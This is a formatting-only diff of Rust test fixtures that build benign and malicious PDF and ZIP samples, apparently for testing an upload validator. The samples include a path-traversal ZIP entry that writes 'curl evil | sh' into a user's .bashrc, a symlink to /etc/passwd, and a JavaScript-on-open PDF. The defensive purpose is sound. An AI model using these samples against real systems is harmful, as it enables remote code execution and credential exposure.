@@ -48,12 +48,18 @@ pub fn pdf(objects: &[&[u8]]) -> Vec<u8> {
         out.extend_from_slice(b"\nendobj\n");
     }
     let xref = out.len();
-    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
+    out.extend_from_slice(
+        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
+    );
     for offset in offsets {
         out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
     }
     out.extend_from_slice(
-        format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1).as_bytes(),
+        format!(
+            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
+            objects.len() + 1
+        )
+        .as_bytes(),
     );
     out
 }
@@ -77,7 +83,9 @@ fn pdf_from(objects: &[Vec<u8>]) -> Vec<u8> {
 
 /// A one-page PDF that opens at a destination (allowed).
 pub fn pdf_ok() -> Vec<u8> {
-    pdf_from(&page_objects(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"))
+    pdf_from(&page_objects(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+    ))
 }
 
 /// A PDF that runs JavaScript when opened.
@@ -127,12 +135,19 @@ pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
 
 /// A normal archive: a directory, a CSV and a JSON file.
 pub fn zip_ok() -> Vec<u8> {
-    zip(&[("export/", b""), ("export/users.csv", &csv_ok()), ("export/users.json", &json_ok())])
+    zip(&[
+        ("export/", b""),
+        ("export/users.csv", &csv_ok()),
+        ("export/users.json", &json_ok()),
+    ])
 }
 
 /// An archive whose entry climbs out of the extraction directory.
 pub fn zip_with_traversal() -> Vec<u8> {
-    zip(&[("ok.txt", b"fine"), ("../../home/user/.bashrc", b"curl evil | sh")])
+    zip(&[
+        ("ok.txt", b"fine"),
+        ("../../home/user/.bashrc", b"curl evil | sh"),
+    ])
 }
 
 /// An archive with an absolute entry path.
@@ -143,7 +158,9 @@ pub fn zip_with_absolute_path() -> Vec<u8> {
 /// An archive containing a symbolic link.
 pub fn zip_with_symlink() -> Vec<u8> {
     let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
-    writer.add_symlink("link", "/etc/passwd", SimpleFileOptions::default()).expect("zip symlink");
+    writer
+        .add_symlink("link", "/etc/passwd", SimpleFileOptions::default())
+        .expect("zip symlink");
     writer.finish().expect("zip finish").into_inner()
 }
 
